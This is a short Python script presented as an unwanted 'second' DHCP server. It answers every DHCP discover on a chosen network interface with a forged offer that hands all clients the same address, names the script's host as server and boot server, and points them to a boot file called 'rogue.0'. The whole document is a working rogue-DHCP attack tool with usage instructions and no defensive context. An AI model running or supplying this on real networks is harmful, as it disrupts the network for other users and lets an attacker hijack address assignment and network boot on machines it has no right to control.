"""A DHCP server that nobody wanted: offers every machine that asks the same address, and a boot file of its own.

usage: second-dhcp-server.py INTERFACE OWN-ADDRESS OFFERED-ADDRESS
"""

import socket
import struct
import sys

interface, own, address = sys.argv[1], socket.inet_aton(sys.argv[2]), socket.inet_aton(sys.argv[3])
server = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
server.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
server.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
server.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, interface.encode() + b"\0")
server.bind(("", 67))
while True:
    asked, _client = server.recvfrom(1500)
    if asked[240:243] != b"\x35\x01\x01":
        continue
    offer = struct.pack("!BBBB4sHH4s4s4s4s16s", 2, 1, 6, 0, asked[4:8], 0, 0x8000, b"", address, own, b"", asked[28:44])
    offer += b"\0" * 64 + b"rogue.0".ljust(128, b"\0") + asked[236:240]
    offer += b"\x35\x01\x02\x36\x04" + own + b"\xff"
    server.sendto(offer.ljust(300, b"\0"), ("255.255.255.255", 68))
